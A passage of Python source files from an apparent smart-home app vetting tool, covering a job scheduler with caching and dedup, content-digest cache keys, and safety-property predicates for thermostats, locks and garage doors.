        self.close()

    def __len__(self):
        with self._lock:
            return self._conn.execute(
                "SELECT COUNT(*) FROM results").fetchone()[0]

    def __repr__(self):
        return "ResultStore(%r, entries=%d)" % (self.path, len(self))
