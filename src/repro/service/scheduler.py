"""Incremental job scheduler: dedup, cache short-circuit, cost ordering.

The scheduler sits between submissions and the engine's process-pool
batch runner (:func:`repro.engine.batch.verify_many`):

1. **cache short-circuit** - a submission whose content key is already
   in the :class:`~repro.service.store.ResultStore` completes
   immediately with the stored result; no engine runs, no worker wakes;
2. **in-flight dedup** - submissions sharing a cache key with a queued
   or running job attach to that job instead of re-verifying (market
   uploads arrive in bursts of identical configurations);
3. **priority/cost ordering** - remaining jobs run highest priority
   first, cheapest first within a priority band, so interactive
   submissions are not stuck behind whole-market sweeps;
4. **batched execution** - ready jobs drain through ``verify_many``'s
   process pool in one batch per drain cycle.

The scheduler can be driven synchronously (:meth:`run_pending`, used by
tests and one-shot CLI flows) or by its own worker thread
(:meth:`start`/:meth:`stop`, used by ``repro serve``).
"""

import copy
import heapq
import itertools
import os
import threading
import time

#: job lifecycle states
QUEUED = "queued"
RUNNING = "running"
DONE = "done"
ERROR = "error"


class ScheduledJob:
    """One submission's lifecycle record."""

    __slots__ = ("id", "job", "cache_key", "config_digest", "priority",
                 "cost", "status", "from_cache", "submitted", "started",
                 "finished", "result", "error", "waiters")

    def __init__(self, job_id, job, cache_key, config_digest, priority, cost):
        self.id = job_id
        self.job = job
        self.cache_key = cache_key
        self.config_digest = config_digest
        self.priority = priority
        self.cost = cost
        self.status = QUEUED
        self.from_cache = False
        self.submitted = time.time()
        self.started = None
        self.finished = None
        self.result = None
        self.error = None
        self.waiters = 0

    @property
    def done(self):
        return self.status in (DONE, ERROR)

    @property
    def verdict(self):
        """``"violated"``/``"safe"``/``"error"``; None while running."""
        if self.status == ERROR:
            return "error"
        if self.result is None:
            return None
        return self.result.verdict

    def snapshot(self):
        """JSON-safe view for the API and CLI."""
        data = {
            "id": self.id,
            "name": self.job.name,
            "cache_key": self.cache_key,
            "config_digest": self.config_digest,
            "status": self.status,
            "priority": self.priority,
            "cost": self.cost,
            "from_cache": self.from_cache,
            "submitted": self.submitted,
            "started": self.started,
            "finished": self.finished,
            "verdict": self.verdict,
            "error": self.error,
        }
        if self.result is not None:
            data["violations"] = len(self.result.counterexamples)
            data["violated_property_ids"] = self.result.violated_property_ids
            data["states_explored"] = self.result.states_explored
            data["elapsed"] = self.result.elapsed
        return data

    def __repr__(self):
        return "ScheduledJob(%s, %s%s)" % (
            self.id, self.status, ", cached" if self.from_cache else "")


def estimate_cost(job):
    """Cheap relative cost: configuration size scaled by the event bound.

    The state space grows with installed apps x interesting devices per
    extra event of depth; the estimate only has to *order* jobs, not
    predict wall-clock.
    """
    apps = max(1, len(job.config.apps))
    devices = max(1, len(job.config.devices))
    return apps * devices * (job.options.max_events + 1)


class Scheduler:
    """Drives submissions through the store and the batch worker pool.

    ``shard_workers`` flips the execution model from *inter*-job to
    *intra*-job parallelism: instead of fanning a batch of jobs across
    the process pool, jobs drain one at a time and each runs through the
    sharded engine (:mod:`repro.engine.parallel`) on ``shard_workers``
    processes.  That is the right trade when submissions trickle in one
    at a time on a multi-core host - the pool would idle N-1 cores per
    drain cycle, the shards use them.  A submission whose own options
    request ``workers > 1`` shards regardless of the scheduler default.

    ``job_timeout`` (seconds, ``None`` = unbounded) bounds each job's
    wall clock with two cooperating mechanisms: a cooperative
    ``EngineOptions.time_limit`` injected into every drained job (the
    engine stops itself at the deadline, covering the inline and sharded
    paths), plus :func:`verify_many`'s hard pool backstop for workers
    hung in non-cooperative code.  Either way the record finishes - the
    in-flight dedup key is released by ``_finish_batch`` and the drain
    loop moves on; a single runaway submission can never wedge the
    service.
    """

    def __init__(self, store, workers=None, batch_size=None,
                 shard_workers=None, job_timeout=None):
        self.store = store
        self.workers = workers
        self.shard_workers = shard_workers
        self.job_timeout = job_timeout
        #: jobs drained per cycle: enough to keep the pool busy, small
        #: enough that a high-priority arrival waits one batch at most
        self.batch_size = batch_size or max(
            1, (workers or os.cpu_count() or 1) * 4)
        if shard_workers and shard_workers > 1:
            # shards already saturate the cores; draining many jobs at
            # once would multiply processes instead of throughput
            self.batch_size = 1
        self._lock = threading.Lock()
        self._wakeup = threading.Condition(self._lock)
        self._jobs = {}          # job id -> ScheduledJob
        self._inflight = {}      # cache key -> queued/running ScheduledJob
        self._heap = []          # (-priority, cost, seq, job_id)
        self._ids = itertools.count(1)
        self._seq = itertools.count()
        self._thread = None
        self._stopping = False
        #: engine runs actually executed (cache hits never count)
        self.executed = 0
        #: submissions answered from the store or an in-flight twin
        self.cache_hits = 0
        self.dedup_hits = 0

    # ------------------------------------------------------------------
    # submission
    # ------------------------------------------------------------------

    def submit(self, job, priority=0):
        """Submit one :class:`~repro.engine.batch.VerificationJob`.

        Returns the :class:`ScheduledJob` record - possibly an existing
        in-flight record (dedup) or an immediately-done record served
        from the result store (cache hit).
        """
        from repro.engine.batch import resolve_job_registry
        from repro.service.digest import job_cache_key, job_config_digest

        # resolve the registry once per submission: both digests need it,
        # and uploaded sources would otherwise be parsed twice
        registry = resolve_job_registry(job)
        cache_key = job_cache_key(job, registry)
        with self._lock:
            twin = self._inflight.get(cache_key)
            if twin is not None:
                self._attach_to_twin(twin, priority)
                return twin
        stored = self.store.get(cache_key)
        record = ScheduledJob("job-%d" % next(self._ids), job, cache_key,
                              job_config_digest(job, registry), priority,
                              estimate_cost(job))
        if stored is not None:
            record.status = DONE
            record.from_cache = True
            record.result = stored.result
            record.finished = record.started = record.submitted
            with self._lock:
                self._jobs[record.id] = record
                self.cache_hits += 1
            return record
        with self._lock:
            # recheck: a twin may have raced in while the store was probed
            twin = self._inflight.get(cache_key)
            if twin is not None:
                self._attach_to_twin(twin, priority)
                return twin
            self._jobs[record.id] = record
            self._inflight[cache_key] = record
            heapq.heappush(self._heap, (-priority, record.cost,
                                        next(self._seq), record.id))
            self._wakeup.notify_all()
        return record

    def _attach_to_twin(self, twin, priority):
        """Dedup bookkeeping (caller holds the lock): a duplicate raises a
        still-queued twin's priority, so an interactive resubmission of a
        low-priority sweep job is not stuck at sweep priority."""
        twin.waiters += 1
        self.dedup_hits += 1
        if twin.status == QUEUED and priority > twin.priority:
            twin.priority = priority
            # stale lower-priority heap entries are skipped at pop time
            # (the status check), so pushing a boosted one is enough
            heapq.heappush(self._heap, (-priority, twin.cost,
                                        next(self._seq), twin.id))

    # ------------------------------------------------------------------
    # execution
    # ------------------------------------------------------------------

    def run_pending(self):
        """Drain up to one batch of queued jobs through ``verify_many``;
        returns the finished records (empty when nothing was queued).

        The per-cycle batch is capped (:attr:`batch_size`) so a
        high-priority submission arriving mid-sweep only waits for the
        current batch, not for the whole queue.
        """
        from repro.engine.batch import VerificationJob, verify_many

        with self._lock:
            batch = []
            while self._heap and len(batch) < self.batch_size:
                *_order, job_id = heapq.heappop(self._heap)
                record = self._jobs[job_id]
                if record.status != QUEUED:
                    continue
                record.status = RUNNING
                record.started = time.time()
                batch.append(record)
        if not batch:
            return []
        # results are keyed by job name inside verify_many; job ids are
        # unique where user-facing names need not be
        jobs = []
        tightened = set()  # record ids whose time_limit *we* imposed
        for record in batch:
            source = record.job
            options = source.options
            if (self.shard_workers and self.shard_workers > 1
                    and getattr(options, "workers", 1) <= 1):
                options = copy.copy(options)
                options.workers = self.shard_workers
            if self.job_timeout is not None:
                # cooperative per-job bound: the engine checks wall
                # clock itself, which also covers the inline and
                # sharded paths the pool backstop cannot preempt.  A
                # submission with its own tighter limit keeps it.
                limit = getattr(options, "time_limit", None)
                if limit is None or limit > self.job_timeout:
                    if options is source.options:
                        options = copy.copy(options)
                    options.time_limit = self.job_timeout
                    tightened.add(record.id)
            if getattr(options, "telemetry", None) is None:
                # board hookup: a job-id scoped config (no sink, no
                # meter) so ``/jobs/<id>/progress`` and the per-job
                # ``/metrics`` gauges see live snapshots from runs
                # executed in this process (inline and sharded paths).
                # A submission carrying its own config keeps it.
                from repro.obs import TelemetryConfig
                if options is source.options:
                    options = copy.copy(options)
                options.telemetry = TelemetryConfig(job=record.id)
            jobs.append(VerificationJob(
                record.id, source.config, options,
                properties=source.properties, select=source.select,
                registry=source.registry, strict=source.strict,
                enable_failures=source.enable_failures,
                user_mode_events=source.user_mode_events,
                sources=source.sources))
        try:
            # sharded jobs run inline (workers=1 pool): each already
            # spawns its own shard processes via execute_job.  This
            # also covers submissions that request options.workers
            # themselves - pool parallelism must never *multiply* with
            # per-job shard counts, or a batch of API submissions could
            # fork pool x shards processes at once
            sharded_batch = any(getattr(job.options, "workers", 1) > 1
                                for job in jobs)
            pool_workers = (1 if sharded_batch
                            or (self.shard_workers and self.shard_workers > 1)
                            else self.workers)
            outcome = verify_many(jobs, workers=pool_workers,
                                  timeout=self.job_timeout)
        except Exception as exc:
            # verify_many catches per-job failures itself; this guards
            # batch-level failures (e.g. a dead process pool) so the
            # records never wedge in RUNNING
            return self._finish_batch(batch, error="batch execution "
                                      "failed - %s: %s"
                                      % (type(exc).__name__, exc))
        for record in batch:
            result = outcome.results.get(record.id)
            if result is not None:
                if (record.id in tightened and result.truncated
                        and result.truncated_reason == "time_limit"):
                    # the *injected* deadline cut the search short.
                    # Violations found before the cutoff are real, so a
                    # violated verdict stands (uncached - the partial
                    # coverage is not reproducible under the cache key);
                    # a "safe" verdict from partial coverage would be
                    # unsound, so the record errors instead
                    record.result = result
                    if result.counterexamples:
                        record.status = DONE
                    else:
                        record.error = ("timed out after %gs "
                                        "(scheduler job timeout); partial "
                                        "coverage, no verdict"
                                        % self.job_timeout)
                        record.status = ERROR
                    continue
                record.result = result
                record.status = DONE
                if result.shard_failure:
                    failure = result.shard_failure
                    record.error = (
                        "shard worker(s) %s died (exit codes %s); result "
                        "covers the surviving shards only"
                        % (failure.get("workers"), failure.get("exitcodes")))
                if result.workers > 1 and (
                        result.truncated
                        or record.job.options.stop_on_first):
                    # a truncated (or stop-on-first) sharded run stopped
                    # at a scheduling-dependent point, so its partial
                    # result is not reproducible under the
                    # (worker-agnostic) cache key - answer the
                    # submitter, cache nothing
                    continue
                if (getattr(result, "swarm", None)
                        and not result.counterexamples):
                    # a swarm "safe" is only "not found by this sample"
                    # (coverage is partial by construction) - serving it
                    # from the cache would launder sampling into an
                    # exhaustive-looking verdict.  Swarm *violations*
                    # fall through and are cached: each replayed on the
                    # interpreted oracle before being recorded, and the
                    # digest (mode + seed + swarm_members) pins the
                    # exact sample that found them
                    continue
                try:
                    self.store.put(record.cache_key, result,
                                   name=record.job.name,
                                   config_digest=record.config_digest,
                                   config=record.job.config,
                                   sources=record.job.sources)
                except Exception as exc:
                    # the verdict exists even if persisting it failed;
                    # stay DONE, surface the store trouble on the record
                    record.error = ("result-store write failed - %s: %s"
                                    % (type(exc).__name__, exc))
            else:
                record.error = (outcome.errors.get(record.id)
                                or "job produced no result")
                record.status = ERROR
        return self._finish_batch(batch)

    def _finish_batch(self, batch, error=None):
        """Stamp, unregister and announce a drained batch (one place, so
        no exit path can leave records RUNNING or keys in-flight)."""
        now = time.time()
        for record in batch:
            if error is not None:
                record.error = error
                record.status = ERROR
            record.finished = now
        with self._lock:
            self.executed += len(batch)
            for record in batch:
                self._inflight.pop(record.cache_key, None)
            self._wakeup.notify_all()
        return batch

    # ------------------------------------------------------------------
    # background worker
    # ------------------------------------------------------------------

    def start(self):
        """Run the drain loop on a daemon thread (idempotent)."""
        with self._lock:
            if self._thread is not None:
                return self._thread
            self._stopping = False
            self._thread = threading.Thread(target=self._loop,
                                            name="repro-scheduler",
                                            daemon=True)
        self._thread.start()
        return self._thread

    def _loop(self):
        while True:
            with self._lock:
                while not self._heap and not self._stopping:
                    self._wakeup.wait(timeout=0.5)
                if self._stopping:
                    return
            try:
                self.run_pending()
            except Exception:
                # run_pending hardens every expected failure itself; this
                # is the last line of defense - a wedged cycle must not
                # kill the drain thread and silently stall the service
                time.sleep(0.1)

    def stop(self, timeout=None):
        with self._lock:
            self._stopping = True
            thread = self._thread
            self._thread = None
            self._wakeup.notify_all()
        if thread is not None:
            thread.join(timeout=timeout)

    # ------------------------------------------------------------------
    # introspection
    # ------------------------------------------------------------------

    def job(self, job_id):
        with self._lock:
            return self._jobs.get(job_id)

    def wait(self, record, timeout=None):
        """Block until a record finishes; returns ``record.done``."""
        deadline = None if timeout is None else time.monotonic() + timeout
        with self._lock:
            while not record.done:
                remaining = (None if deadline is None
                             else deadline - time.monotonic())
                if remaining is not None and remaining <= 0:
                    break
                self._wakeup.wait(timeout=remaining
                                  if remaining is not None else 0.5)
        return record.done

    def progress(self, job_id):
        """The latest observed progress for one job, or ``None``.

        While the job runs in this process (the inline and sharded
        paths) the live board snapshot rides along; once the job is
        done the result's final figures do.  Jobs executing inside pool
        worker processes publish to that worker's board, so their
        ``snapshot`` key is absent until completion.
        """
        record = self.job(job_id)
        if record is None:
            return None
        from repro.obs import PROGRESS_BOARD

        data = {"id": record.id, "status": record.status,
                "verdict": record.verdict}
        snapshot = PROGRESS_BOARD.latest(job_id)
        if snapshot is not None:
            data["snapshot"] = snapshot
        if record.result is not None:
            data["result"] = {
                "states": record.result.states_explored,
                "transitions": record.result.transitions,
                "elapsed": record.result.elapsed,
                "violations": len(record.result.counterexamples),
            }
        return data

    def jobs(self):
        """Snapshots of every known job, newest first."""
        with self._lock:
            records = sorted(self._jobs.values(), key=lambda r: r.submitted,
                             reverse=True)
        return [record.snapshot() for record in records]

    def stats(self):
        with self._lock:
            by_status = {}
            for record in self._jobs.values():
                by_status[record.status] = by_status.get(record.status, 0) + 1
            return {
                "jobs": len(self._jobs),
                "by_status": by_status,
                "queued": len(self._heap),
                "executed": self.executed,
                "cache_hits": self.cache_hits,
                "dedup_hits": self.dedup_hits,
                "workers": self.workers,
                "shard_workers": self.shard_workers,
                "job_timeout": self.job_timeout,
            }
