"""Continuous vetting service: persistent, incremental verification.

The paper's end goal is market-scale vetting - every submitted
SmartApp/IFTTT configuration checked against the safety-property
catalog, continuously, not one CLI run at a time.  This package wraps
the exploration engine in a service layer:

* :mod:`repro.service.digest` - deterministic content digests of
  verification inputs (system + properties + options);
* :mod:`repro.service.store` - a SQLite-backed content-addressed
  :class:`ResultStore` (schema-versioned, WAL) holding verdicts,
  counterexample traces and engine statistics;
* :mod:`repro.service.scheduler` - in-flight dedup, cache
  short-circuiting and priority/cost ordering over the engine's
  process-pool batch runner;
* :mod:`repro.service.api` - the ``repro serve`` JSON API plus the
  urllib client the ``repro submit``/``results``/``gc`` CLI verbs use.
"""

from repro.service.api import (
    DEFAULT_PORT,
    ServiceClient,
    ServiceError,
    SubmissionError,
    VettingHTTPServer,
    VettingService,
    create_server,
)
from repro.service.digest import (
    DIGEST_SCHEMA_VERSION,
    job_cache_key,
    job_config_digest,
    system_digest,
)
from repro.service.scheduler import ScheduledJob, Scheduler, estimate_cost
from repro.service.store import STORE_SCHEMA_VERSION, ResultStore, StoredResult

__all__ = [
    "DEFAULT_PORT",
    "DIGEST_SCHEMA_VERSION",
    "STORE_SCHEMA_VERSION",
    "ResultStore",
    "StoredResult",
    "ScheduledJob",
    "Scheduler",
    "ServiceClient",
    "ServiceError",
    "SubmissionError",
    "VettingHTTPServer",
    "VettingService",
    "create_server",
    "estimate_cost",
    "job_cache_key",
    "job_config_digest",
    "system_digest",
]
