"""Deterministic content digests for verification inputs.

The continuous vetting service is content-addressed: a verification's
inputs - the bound system (devices, installed apps with their handler
code and bindings), the property set and the engine options - are
canonically serialized and hashed, and the resulting key addresses the
:class:`~repro.service.store.ResultStore`.  Re-submitting an unchanged
app/configuration pair therefore resolves to a store lookup instead of a
state-space search.

Canonicalization rules:

* device and app *declaration order* is irrelevant (both are sorted by
  name): configurations differing only in install order address one
  store entry.  Within a cascade the model dispatches subscribers in
  install order, but that order is an arbitrary determinization - the
  real platform guarantees none - so the service deliberately treats
  permutations as the same deployment (the stored trace is the one
  recorded for the first-submitted ordering);
* handler code participates through a SHA-256 of the app's Groovy
  source, so editing any handler body produces a new digest;
* device types participate through their full attribute/command surface
  (domains and defaults), so a catalog change invalidates old results;
* only *semantic* engine options are part of the key
  (:data:`SEMANTIC_OPTION_FIELDS`); pure performance knobs (successor
  cache sizing, GC management, limit-check quantization) cannot change
  verdicts or traces and therefore do not invalidate cached results.

Bump :data:`DIGEST_SCHEMA_VERSION` whenever the canonical layout
changes; the version is hashed into every digest, so old store entries
simply stop matching.
"""

import hashlib
import json

#: hashed into every digest: bump when the canonical layout changes
#: (v2: the execution tier - ``engine``/``compiled`` - left the semantic
#: fields; the codegen differential suite proves all tiers byte-identical,
#: so the back-end choice is a pure performance knob like ``workers``.
#: v3: the fault-injection ``scenario`` profile joined the semantic
#: fields - each profile explores a different transition relation, so a
#: lossy verdict must never be served from the clean cache.
#: v4: ``bitstate_salt`` joined the semantic fields (a salted bitstate
#: field misses a different state set), and swarm runs additionally
#: hash ``seed``/``swarm_members`` - two swarms with different seeds
#: sample different spaces, while exhaustive digests ignore both)
DIGEST_SCHEMA_VERSION = 4

#: EngineOptions fields that can change verdicts, traces or reported
#: exploration statistics; everything else is a performance knob
SEMANTIC_OPTION_FIELDS = (
    "max_events", "mode", "visited", "bitstate_bits", "bitstate_salt",
    "max_states", "max_transitions", "time_limit", "stop_on_first",
    "strategy", "reduction", "scenario",
)

#: additionally semantic for ``mode == "swarm"`` submissions only: the
#: seed diversifies every member's search order and salt, and the member
#: count bounds what the swarm can find.  Exhaustive runs ignore both
#: (their verdict is a function of the space alone), so hashing them
#: unconditionally would pointlessly split the exhaustive cache
SWARM_OPTION_FIELDS = ("seed", "swarm_members")


def canonical_json(payload):
    """The canonical wire form: sorted keys, no whitespace."""
    return json.dumps(payload, sort_keys=True, separators=(",", ":"),
                      default=_json_fallback)


def _json_fallback(value):
    # tuples arrive here only via user-supplied association values etc.;
    # anything truly unserializable is canonicalized by repr
    if isinstance(value, (set, frozenset)):
        return sorted(value, key=repr)
    return repr(value)


def payload_digest(payload):
    """SHA-256 hex digest of a canonical payload."""
    return hashlib.sha256(canonical_json(payload).encode("utf-8")).hexdigest()


def source_digest(source):
    """SHA-256 of one app's Groovy source (handler-body identity)."""
    return hashlib.sha256(source.encode("utf-8")).hexdigest()


# ---------------------------------------------------------------------------
# bound-system canonical form (IoTSystem)
# ---------------------------------------------------------------------------


def _spec_surface(spec):
    """A :class:`DeviceSpec`'s full canonical surface."""
    return {
        "attributes": {
            name: {"kind": attr.kind, "values": list(attr.values),
                   "default": attr.default}
            for name, attr in spec.attributes.items()},
        "commands": sorted(spec.commands),
        "sensors": sorted(spec.sensor_attributes),
    }


def device_payload(instance):
    """Canonical form of one bound device: name, type, full spec surface."""
    payload = {"name": instance.name, "type": instance.spec.type_name,
               "label": instance.label}
    payload.update(_spec_surface(instance.spec))
    return payload


def app_payload(app):
    """Canonical form of one installed app instance.

    Binding *values* keep list order (a device list's order is the
    :class:`~repro.model.handles.DeviceGroup` iteration order); binding
    *keys* are canonicalized by the sorted-key JSON encoding.
    """
    return {
        "instance": app.name,
        "app": app.smart_app.name,
        "source_sha256": source_digest(app.smart_app.source),
        "bindings": dict(app.bindings),
    }


def system_payload(system):
    """Canonical form of a bound :class:`~repro.model.system.IoTSystem`."""
    return {
        "devices": sorted((device_payload(d) for d in system.devices.values()),
                          key=lambda p: p["name"]),
        "apps": sorted((app_payload(a) for a in system.apps),
                       key=lambda p: p["instance"]),
        "contacts": sorted(system.contacts),
        "modes": list(system.modes),
        "initial_mode": system.initial_mode,
        "association": dict(system.association),
        "http_allowed": sorted(system.http_allowed),
        "enable_failures": bool(system.enable_failures),
        "user_mode_events": bool(system.user_mode_events),
    }


def properties_payload(properties):
    """Canonical form of a checked property set (order-independent)."""
    entries = []
    for prop in properties:
        entries.append({
            "id": prop.id,
            "name": prop.name,
            "category": prop.category,
            "kind": prop.kind,
            "ltl": prop.ltl,
            "roles": list(getattr(prop, "roles", ())),
        })
    return sorted(entries, key=lambda e: (e["id"], e["name"]))


def options_payload(options):
    """Canonical form of the semantic engine options."""
    payload = {name: getattr(options, name, None)
               for name in SEMANTIC_OPTION_FIELDS}
    if getattr(options, "mode", None) == "swarm":
        for name in SWARM_OPTION_FIELDS:
            payload[name] = getattr(options, name, None)
    priority = getattr(options, "priority", None)
    if priority is not None:
        # a custom priority function changes the search order; its
        # qualname is the best stable identity available
        payload["priority"] = getattr(priority, "__qualname__", repr(priority))
    return payload


def system_digest(system, properties=None, options=None):
    """The content digest of one verification input.

    ``properties``/``options`` extend the digest when given; a bare
    system digest identifies the deployment alone (useful to group
    stored results of the same system under different run options).
    """
    payload = {"v": DIGEST_SCHEMA_VERSION, "system": system_payload(system)}
    if properties is not None:
        payload["properties"] = properties_payload(properties)
    if options is not None:
        payload["options"] = options_payload(options)
    return payload_digest(payload)


# ---------------------------------------------------------------------------
# job canonical form (configuration level, no system build required)
# ---------------------------------------------------------------------------


def _type_surface(type_name):
    """The catalog's full spec surface for a device type (None if unknown).

    A catalog edit - new attribute, changed value domain or default,
    added command - must invalidate stored results verified under the
    old surface, exactly like a handler-body edit does for apps.
    """
    from repro.devices.catalog import device_spec

    try:
        spec = device_spec(type_name)
    except KeyError:
        return None
    return _spec_surface(spec)


def config_payload(config, registry):
    """Canonical form of a :class:`SystemConfiguration` against a registry.

    App handler code participates through the registry's parsed sources
    and device types through their catalog spec surface, so the key
    changes when either changes - without paying for IR lowering or a
    system build.
    """
    apps = []
    for app_config in config.apps:
        smart_app = registry.get(app_config.app)
        apps.append({
            "instance": app_config.instance_name,
            "app": app_config.app,
            "source_sha256": (source_digest(smart_app.source)
                              if smart_app is not None else None),
            "bindings": dict(app_config.bindings),
        })
    devices = [{"name": d.name, "type": d.type, "label": d.label,
                "surface": _type_surface(d.type)}
               for d in config.devices]
    return {
        "devices": sorted(devices, key=lambda p: p["name"]),
        "apps": sorted(apps, key=lambda p: p["instance"]),
        "contacts": sorted(config.contacts),
        "modes": list(config.modes),
        "initial_mode": config.initial_mode,
        "association": dict(config.association),
        "http_allowed": sorted(config.http_allowed),
    }


def _job_properties_payload(properties):
    if properties is None:
        return "catalog"
    if all(isinstance(p, str) for p in properties):
        return sorted(properties)
    return properties_payload(properties)


def job_config_digest(job, registry=None):
    """Digest of the job's deployment alone (no options/properties).

    Groups every stored result of one system configuration regardless of
    the run options it was verified under.
    """
    registry = _job_registry(job) if registry is None else registry
    return payload_digest({"v": DIGEST_SCHEMA_VERSION,
                           "config": config_payload(job.config, registry)})


def job_cache_key(job, registry=None):
    """The content-addressed store key of one verification job."""
    registry = _job_registry(job) if registry is None else registry
    payload = {
        "v": DIGEST_SCHEMA_VERSION,
        "config": config_payload(job.config, registry),
        "options": options_payload(job.options),
        "properties": _job_properties_payload(job.properties),
        "select": bool(job.select),
        "strict": bool(job.strict),
        "enable_failures": bool(job.enable_failures),
        "user_mode_events": bool(job.user_mode_events),
        "sources": {name: source_digest(source)
                    for name, source in (job.sources or {}).items()},
    }
    return payload_digest(payload)


def _job_registry(job):
    from repro.engine.batch import resolve_job_registry

    return resolve_job_registry(job)
