"""Property base classes and kinds."""

KIND_INVARIANT = "invariant"
KIND_CONFLICT = "conflict"
KIND_REPEAT = "repeat"
KIND_LEAKAGE_HTTP = "leakage-http"
KIND_LEAKAGE_SMS = "leakage-sms"
KIND_SECURITY_CMD = "security-command"
KIND_FAKE_EVENT = "fake-event"
KIND_ROBUSTNESS = "robustness"


class SafetyProperty:
    """A verifiable safety property.

    Non-invariant kinds are *monitored*: the safety monitor raises them when
    the corresponding operation is observed (a conflicting command pair, an
    ``httpPost``, an ``unsubscribe``, ...).
    """

    def __init__(self, id, name, category, kind, description, ltl=None):  # noqa: A002
        self.id = id
        self.name = name
        self.category = category
        self.kind = kind
        self.description = description
        self.ltl = ltl

    def applicable(self, system):
        """Whether the system has the roles this property talks about."""
        return True

    def __repr__(self):
        return "SafetyProperty(%s, %r)" % (self.id, self.name)


def _system_changes_mode(system):
    """Whether any installed app can change the location mode.

    Obligation properties on the mode ("mode must change to Away when
    nobody is home") are only meaningful when some app manages modes -
    the environment alone can never satisfy them.
    """
    from repro.groovy import ast

    for app in getattr(system, "apps", ()):
        program = app.smart_app.program
        for node in program.walk():
            if isinstance(node, ast.Call) and node.name == "setLocationMode":
                return True
            if isinstance(node, ast.MethodCall) and node.name == "setLocationMode":
                return True
    return False


class InvariantProperty(SafetyProperty):
    """A safe-physical-state property: an LTL ``G``-invariant.

    ``predicate(state, system)`` returns ``True`` (holds), ``False``
    (violated) or ``None`` (not applicable in this state, treated as
    holding).  ``roles`` lists the association roles the predicate reads -
    the property only applies to systems where all of them are bound.
    """

    def __init__(self, id, name, category, description, predicate,  # noqa: A002
                 roles=(), ltl=None, triggers=()):
        super().__init__(id, name, category, KIND_INVARIANT, description, ltl=ltl)
        self.predicate = predicate
        self.roles = tuple(roles)
        #: sensor attributes whose events trigger the *obligation* this
        #: invariant states (empty for pure restrictions).  An obligation is
        #: only meaningful when some installed app reacts to the trigger -
        #: no app could discharge it otherwise.
        self.triggers = tuple(triggers)

    def applicable(self, system):
        for role in self.roles:
            if role == "@mode_app":
                if not _system_changes_mode(system):
                    return False
            elif not system.has_role(role):
                return False
        return True

    def holds(self, state, system):
        """Evaluate on one (quiescent) state."""
        result = self.predicate(state, system)
        return result is not False
