"""The 38 safe-physical-state properties (Table 4).

Six categories: Thermostat/AC/Heater (5), Lock and door control (8),
Location mode (3), Security and alarming (14), Water and sprinkler (3),
Others (5).

Each predicate reads device *roles* from the system association (set by the
Configuration Extractor / user, §7: "we have an interface to get the device
association info ... from the user").  A property is applicable only when
the roles it mentions are bound, which is how "the LTL format of the
selected properties are automatically generated" from association info (§8).
"""

from repro.properties.base import InvariantProperty

# Threshold defaults; overridable via association values.
TEMP_LOW = 65
TEMP_HIGH = 85
HUMIDITY_LOW = 20
HUMIDITY_HIGH = 80


# ---------------------------------------------------------------------------
# role helpers
# ---------------------------------------------------------------------------


def _role(system, name):
    return system.role(name)


def _roles(system, name):
    return system.role_list(name)


def _attr(state, device, attribute):
    if device is None:
        return None
    return state.attribute(device, attribute)


def _num(value, default=None):
    if value is None:
        return default
    try:
        return float(value)
    except (TypeError, ValueError):
        return default


def _threshold(system, name, default):
    value = system.role(name)
    return _num(value, default)


def nobody_home(state, system):
    """True/False from presence sensors; ``None`` when unknowable."""
    sensors = _roles(system, "presence_sensors")
    if not sensors:
        return None
    return all(_attr(state, s, "presence") == "not present" for s in sensors)


def somebody_home(state, system):
    away = nobody_home(state, system)
    if away is None:
        return None
    return not away


def smoke_detected(state, system):
    detectors = _roles(system, "smoke_detectors")
    return any(_attr(state, d, "smoke") == "detected" for d in detectors)


def co_detected(state, system):
    detectors = _roles(system, "co_detectors")
    return any(_attr(state, d, "carbonMonoxide") == "detected" for d in detectors)


def water_leak(state, system):
    sensors = _roles(system, "water_sensors")
    return any(_attr(state, s, "water") == "wet" for s in sensors)


def intrusion(state, system):
    """Contact opens or motion while the home is in Away mode."""
    if state.mode != system.away_mode:
        return False
    contacts = _roles(system, "entry_contacts")
    motions = _roles(system, "motion_sensors")
    return (any(_attr(state, c, "contact") == "open" for c in contacts)
            or any(_attr(state, m, "motion") == "active" for m in motions))


def temperature(state, system):
    sensor = _role(system, "temp_sensor")
    return _num(_attr(state, sensor, "temperature"))


def _switch_on(state, device):
    return _attr(state, device, "switch") == "on"


def _alarm_sounding(state, device):
    return _attr(state, device, "alarm") in ("strobe", "siren", "both")


# ---------------------------------------------------------------------------
# Thermostat, AC, and Heater (5)
# ---------------------------------------------------------------------------


def _p_heater_not_on_when_hot(state, system):
    temp = temperature(state, system)
    if temp is None:
        return None
    if temp < _threshold(system, "temp_high", TEMP_HIGH):
        return None
    return not _switch_on(state, _role(system, "heater_outlet"))


def _p_ac_not_on_when_cold(state, system):
    temp = temperature(state, system)
    if temp is None:
        return None
    if temp > _threshold(system, "temp_low", TEMP_LOW):
        return None
    return not _switch_on(state, _role(system, "ac_outlet"))


def _p_ac_heater_not_both_on(state, system):
    heater = _role(system, "heater_outlet")
    ac = _role(system, "ac_outlet")
    return not (_switch_on(state, heater) and _switch_on(state, ac))


def _p_heater_on_when_cold_at_home(state, system):
    temp = temperature(state, system)
    home = somebody_home(state, system)
    if temp is None or home is not True:
        return None
    if temp > _threshold(system, "temp_low", TEMP_LOW):
        return None
    return _switch_on(state, _role(system, "heater_outlet"))


def _p_thermostat_not_off_when_cold_at_home(state, system):
    thermostat = _role(system, "thermostat")
    temp = temperature(state, system)
    home = somebody_home(state, system)
    if temp is None or home is not True:
        return None
    if temp > _threshold(system, "temp_low", TEMP_LOW):
        return None
    return _attr(state, thermostat, "thermostatMode") != "off"


# ---------------------------------------------------------------------------
# Lock and door control (8)
# ---------------------------------------------------------------------------


def _p_main_door_locked_when_away(state, system):
    away = nobody_home(state, system)
    if away is not True:
        return None
    return _attr(state, _role(system, "main_door_lock"), "lock") == "locked"


def _p_main_door_locked_at_night(state, system):
    if state.mode != system.night_mode:
        return None
    return _attr(state, _role(system, "main_door_lock"), "lock") == "locked"


def _p_main_door_locked_in_away_mode(state, system):
    if state.mode != system.away_mode:
        return None
    return _attr(state, _role(system, "main_door_lock"), "lock") == "locked"


def _p_garage_closed_when_away(state, system):
    away = nobody_home(state, system)
    if away is not True:
        return None
    return _attr(state, _role(system, "garage_door"), "door") == "closed"


def _p_garage_closed_at_night(state, system):
    if state.mode != system.night_mode:
        return None
    return _attr(state, _role(system, "garage_door"), "door") == "closed"


def _p_all_locks_locked_in_away_mode(state, system):
    if state.mode != system.away_mode:
        return None
    locks = _roles(system, "locks")
    if not locks:
        return None
    return all(_attr(state, lock, "lock") == "locked" for lock in locks)


